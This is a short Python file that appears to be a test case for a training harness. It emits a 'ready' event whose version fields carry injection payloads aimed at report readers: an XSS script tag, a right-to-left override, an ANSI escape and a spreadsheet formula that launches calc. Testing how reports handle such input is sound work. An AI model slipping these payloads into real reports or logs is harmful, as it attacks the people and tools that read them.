"""Says again that it is ready, with versions that act on whoever reads the report.

Goal: the reader
Ends: graded, train_error
"""

from kit import plain, speak


def train():
    speak(
        {"event": "ready", "versions": {"torch": "\u202e<script>alert(1)</script>\u001b[31m", "=cmd|'/c calc'!A1": "9"}}
    )
    return plain()
